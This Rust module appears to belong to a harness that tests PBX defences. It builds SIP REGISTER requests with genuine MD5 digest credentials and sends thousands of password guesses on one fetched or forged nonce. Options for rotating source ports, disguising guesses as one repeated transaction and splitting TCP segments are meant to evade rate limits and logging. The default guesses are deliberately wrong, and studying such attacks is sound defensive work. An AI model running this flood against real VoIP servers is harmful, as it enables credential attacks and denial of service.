//! One nonce, thousands of guesses, as fast as a socket takes them.
//!
//! SIPVicious asks for a new nonce before each guess and so waits for each answer. Nothing obliges
//! an attacker to: one challenge is enough for any number of guesses, sent without waiting. This is
//! the attacker who is through before a log file is read.

use std::{
    collections::BTreeMap,
    net::{IpAddr, SocketAddr},
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use md5::{Digest as _, Md5};
use serde::Serialize;

use crate::{namespace::Namespace, sip};

mod many_cpus;
mod socket;
mod window;

pub use many_cpus::attack_on_cpus;
use socket::Socket;
pub use window::TinyWindow;

const CHALLENGE_WAIT: Duration = Duration::from_millis(700);
const CHALLENGE_TRIES: u32 = 3;

#[derive(Clone, Copy, PartialEq, Eq, Debug, clap::ValueEnum)]
pub enum Transport {
    Udp,
    Tcp,
}

impl Transport {
    fn name(self) -> &'static str {
        match self {
            Self::Udp => "UDP",
            Self::Tcp => "TCP",
        }
    }
}

/// Who attacks whom, and how. `Plan::new` is the plain one: 5,000 guesses over UDP from one port.
#[derive(Clone, Debug)]
pub struct Plan {
    pub source: IpAddr,
    /// 0 lets the system choose.
    pub source_port: u16,
    /// UDP only: how many source ports take turns.
    pub source_ports: u16,
    pub target: SocketAddr,
    pub transport: Transport,
    pub user: String,
    pub user_agent: String,
    pub guesses: u32,
    /// Every guess is this password; otherwise each is another wrong one.
    pub password: Option<String>,
    /// Guess on a nonce that the PBX never gave out, without asking for one.
    pub forge_nonce: bool,
    /// All guesses with the same Call-ID, CSeq and branch, as if they were one request repeated.
    pub one_transaction: bool,
    /// Without rport, and with the next of the source ports in Via: answers go there.
    pub no_rport: bool,
    /// TCP only: bytes in each segment, whatever they split. Otherwise each segment begins with a
    /// message and holds whole ones.
    pub segment_bytes: Option<usize>,
    /// Guesses a second; otherwise as fast as the socket takes them.
    pub per_second: Option<u32>,
    /// How long to wait for answers after the last guess, counted from the last answer.
    pub patience: Duration,
    /// The end of it all, whatever the peer does.
    pub limit: Duration,
}

impl Plan {
    pub fn new(source: IpAddr, target: SocketAddr) -> Self {
        Self {
            source,
            source_port: 0,
            source_ports: 1,
            target,
            transport: Transport::Udp,
            user: "1000".to_owned(),
            user_agent: "Grandstream GXP1625 1.0.7.6".to_owned(),
            guesses: 5000,
            password: None,
            forge_nonce: false,
            one_transaction: false,
            no_rport: false,
            segment_bytes: None,
            per_second: None,
            patience: Duration::from_millis(700),
            limit: Duration::from_secs(20),
        }
    }

    #[must_use]
    pub fn tcp(self) -> Self {
        Self { transport: Transport::Tcp, ..self }
    }

    #[must_use]
    pub fn split(self, segment_bytes: usize) -> Self {
        Self { segment_bytes: Some(segment_bytes), ..self.tcp() }
    }
}

/// What the attacker knows of it.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct Report {
    /// Whether a nonce was had (forged ones don't count).
    pub challenged: bool,
    /// Guesses given to the socket; over TCP some may never have left it.
    pub sent: u32,
    /// Answers to guesses, by status.
    pub answers: BTreeMap<u16, u32>,
    pub elapsed_ms: u64,
    /// From the first guess to the last answer to one.
    pub last_answer_ms: Option<u64>,
}

impl Report {
    pub fn answers_of(&self, status: u16) -> u32 {
        self.answers.get(&status).copied().unwrap_or(0)
    }
}

/// Attacks from inside `namespace`, and returns within the plan's limit.
pub fn attack_from(namespace: &Namespace, plan: &Plan) -> Result<Report> {
    namespace.run(|| attack(plan))
}

/// Attacks from where the calling thread is.
pub fn attack(plan: &Plan) -> Result<Report> {
    let start = Instant::now();
    let deadline = start + plan.limit;
    let mut report = Report::default();
    let Some(mut socket) = Socket::open(plan, deadline)? else { return Ok(report) };
    let challenge = if plan.forge_nonce {
        Challenge::forged(plan)
    } else {
        let Some(challenge) = fetch_challenge(plan, &mut socket, deadline)? else {
            report.elapsed_ms = millis(start.elapsed());
            return Ok(report);
        };
        report.challenged = true;
        challenge
    };
    guess(plan, &challenge, 0, socket, deadline, &mut report)?;
    report.elapsed_ms = millis(start.elapsed());
    Ok(report)
}

/// Sends all guesses, the first being number `from`, and listens to what becomes of them.
fn guess(
    plan: &Plan,
    challenge: &Challenge,
    from: u32,
    mut socket: Socket,
    deadline: Instant,
    report: &mut Report,
) -> Result<()> {
    let guesses: Vec<Vec<u8>> = (0..plan.guesses)
        .map(|n| request(plan, via(plan, &socket, n), Some((challenge, from + n))))
        .collect();
    let burst = Instant::now();
    report.sent = socket.send_all(plan, &guesses, deadline)?;
    socket.listen(plan.patience, deadline)?;
    report.answers = socket.answers;
    report.last_answer_ms =
        socket.last_answer.map(|at| millis(at.saturating_duration_since(burst)));
    Ok(())
}

/// Where the nth message asks to be answered.
fn via(plan: &Plan, socket: &Socket, n: u32) -> SocketAddr {
    socket.local(n + u32::from(plan.no_rport))
}

fn millis(duration: Duration) -> u64 {
    u64::try_from(duration.as_millis()).unwrap_or(u64::MAX)
}

/// What a PBX asks for.
#[derive(Clone, Debug)]
pub struct Challenge {
    realm: String,
    nonce: String,
}

impl Challenge {
    pub(super) fn forged(plan: &Plan) -> Self {
        let nonce = hex(&Md5::digest(format!("made up for {}", plan.source)));
        Self { realm: host(plan), nonce }
    }
}

/// Takes a nonce from inside `namespace`, for whatever use; `None` if there is no answer.
pub fn take_challenge(namespace: &Namespace, plan: &Plan) -> Result<Option<Challenge>> {
    namespace.run(|| {
        let deadline = Instant::now() + plan.limit;
        match Socket::open(plan, deadline)? {
            Some(mut socket) => fetch_challenge(plan, &mut socket, deadline),
            None => Ok(None),
        }
    })
}

/// One REGISTER without credentials, repeated if need be, and what its 401 says.
fn fetch_challenge(
    plan: &Plan,
    socket: &mut Socket,
    deadline: Instant,
) -> Result<Option<Challenge>> {
    let first = request(plan, via(plan, socket, 0), None);
    for _ in 0..CHALLENGE_TRIES {
        if socket.send_all(plan, std::slice::from_ref(&first), deadline)? == 0 {
            break;
        }
        let until = deadline.min(Instant::now() + CHALLENGE_WAIT);
        if let Some(challenge) = socket.wait_for_challenge(until)? {
            let read = |name| sip::parameter(challenge, name).map(str::to_owned);
            return Ok(Some(Challenge {
                realm: read("realm").context("a challenge without realm")?,
                nonce: read("nonce").context("a challenge without nonce")?,
            }));
        }
        // TCP repeats by itself.
        if plan.transport == Transport::Tcp {
            break;
        }
    }
    Ok(None)
}

/// A REGISTER; with a challenge, the nth guess on it.
pub fn request(plan: &Plan, local: SocketAddr, guess: Option<(&Challenge, u32)>) -> Vec<u8> {
    let (user, host, agent) = (&escaped(&plan.user), host(plan), &plan.user_agent);
    let transport = plan.transport.name();
    let (cseq, credentials) = match guess {
        None => (1, String::new()),
        Some((challenge, n)) if plan.one_transaction => (2, credentials(plan, challenge, n)),
        Some((challenge, n)) => (n + 2, credentials(plan, challenge, n)),
    };
    let rport = if plan.no_rport { "" } else { ";rport" };
    let of = if plan.one_transaction { plan.source.to_string() } else { local.to_string() };
    let call_id = hex(&Md5::digest(format!("{of} {user}")));
    format!(
        "REGISTER sip:{host} SIP/2.0\r\n\
         Via: SIP/2.0/{transport} {local};branch=z9hG4bK{cseq}x{}{rport}\r\n\
         Max-Forwards: 70\r\n\
         From: <sip:{user}@{host}>;tag={}\r\n\
         To: <sip:{user}@{host}>\r\n\
         Call-ID: {call_id}\r\n\
         CSeq: {cseq} REGISTER\r\n\
         Contact: <sip:{user}@{local}>\r\n\
         {credentials}\
         Expires: 300\r\n\
         User-Agent: {agent}\r\n\
         Content-Length: 0\r\n\r\n",
        &call_id[..8],
        &call_id[8..16],
    )
    .into_bytes()
}

/// A true digest of a password (RFC 2617, 3.2.2, qop=auth).
fn credentials(plan: &Plan, challenge: &Challenge, n: u32) -> String {
    let Challenge { realm, nonce } = challenge;
    let (user, uri) = (&plan.user, format!("sip:{}", host(plan)));
    let quoted = user.replace('\\', r"\\").replace('"', "\\\"");
    let (cnonce, count) = (format!("{n:08x}"), format!("{:08x}", n + 1));
    let password = plan.password.clone().unwrap_or_else(|| format!("guess{n}"));
    let secret = hex(&Md5::digest(format!("{user}:{realm}:{password}")));
    let request = hex(&Md5::digest(format!("REGISTER:{uri}")));
    let response = hex(&Md5::digest(format!("{secret}:{nonce}:{count}:{cnonce}:auth:{request}")));
    format!(
        "Authorization: Digest username=\"{quoted}\", realm=\"{realm}\", nonce=\"{nonce}\", \
         uri=\"{uri}\", response=\"{response}\", algorithm=MD5, qop=auth, nc={count}, \
         cnonce=\"{cnonce}\"\r\n"
    )
}

/// As a URI has it (RFC 3261 19.1.2): whoever reads it unescapes it.
fn escaped(user: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.!~*'()+".contains(&byte);
    user.bytes().fold(String::new(), |all, byte| match plain(byte) {
        true => all + &char::from(byte).to_string(),
        false => format!("{all}%{byte:02X}"),
    })
}

/// The target's address as it stands in a SIP URI.
fn host(plan: &Plan) -> String {
    match plan.target {
        SocketAddr::V4(target) => target.ip().to_string(),
        SocketAddr::V6(target) => format!("[{}]", target.ip()),
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plan() -> Plan {
        Plan::new("198.51.100.10".parse().unwrap(), "192.0.2.11:5060".parse().unwrap())
    }

    #[test]
    fn a_guess_is_a_whole_message_with_credentials() {
        let plan = plan();
        let challenge = Challenge { realm: "r".to_owned(), nonce: "n".to_owned() };
        let local = "198.51.100.10:5060".parse().unwrap();
        let mut stream = request(&plan, local, Some((&challenge, 3)));
        let message = sip::read(&stream).unwrap();
        assert_eq!((message.cseq, message.credentialed), ("5 REGISTER", true));
        sip::take_messages(&mut stream, |_| {});
        assert_eq!(stream, b"");
        assert!(!sip::read(&request(&plan, local, None)).unwrap().credentialed);
    }

    #[test]
    fn the_digest_of_the_rfc() {
        // RFC 2617, 3.5, with its GET in place of our REGISTER.
        let a1 = hex(&Md5::digest("Mufasa:testrealm@host.com:Circle Of Life"));
        let a2 = hex(&Md5::digest("GET:/dir/index.html"));
        let text = format!("{a1}:dcd98b7102dd2f0e8b11d0f600bfb0c093:00000001:0a4f113b:auth:{a2}");
        assert_eq!(hex(&Md5::digest(text)), "6629fae49393a05397450978507c4ef1");
    }
}
